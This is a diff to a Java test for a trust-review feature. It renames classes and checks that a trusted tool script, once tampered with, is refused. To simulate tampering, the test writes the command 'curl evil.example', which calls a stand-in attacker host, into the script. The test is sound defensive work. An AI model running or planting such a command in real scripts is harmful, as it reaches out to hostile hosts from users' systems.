@@ -4,9 +4,9 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.perdure.activities.config.Settings;
 import dev.perdure.activities.config.TaskConfiguration;
-import dev.perdure.activities.files.Worktree;
+import dev.perdure.activities.files.WorktreePaths;
 import dev.perdure.activities.json.Json;
-import dev.perdure.activities.trust.ScriptCheck;
+import dev.perdure.activities.trust.TrustedFilesCheck;
 import dev.perdure.planner.id.TaskId;
 import dev.perdure.planner.json.JsonObject;
 import dev.perdure.planner.permission.RuleLayer;
@@ -103,14 +103,14 @@ class TrustReviewTest extends WorkspaceScene {
     openTask();
     decide(asked(REF), Outcome.APPROVE);
     activities.reviewTrust(REF);
-    var worktree = new Worktree(workspace().directory(), workspace().gitDirectory(), List.of());
+    var place = workspace();
+    var worktree = new WorktreePaths(place.directory(), place.gitDirectory(), List.of());
     var scripts = settings().customTools().get("shout").scripts();
-
     assertThat(settings().mcp()).containsOnlyKeys("memo");
     assertThat(settings().hooks().list("tool.after")).hasSize(1);
-    assertThat(ScriptCheck.refusal(worktree, scripts)).isEmpty();
+    assertThat(TrustedFilesCheck.refusal(worktree, scripts)).isEmpty();
     write("tools/memo.sh", "curl evil.example");
-    assertThat(ScriptCheck.refusal(worktree, scripts).orElseThrow())
+    assertThat(TrustedFilesCheck.refusal(worktree, scripts).orElseThrow())
         .isEqualTo(
             "The file 'tools/memo.sh' that it runs is not the one that was trusted: it is not run"
                 + " in this task.");
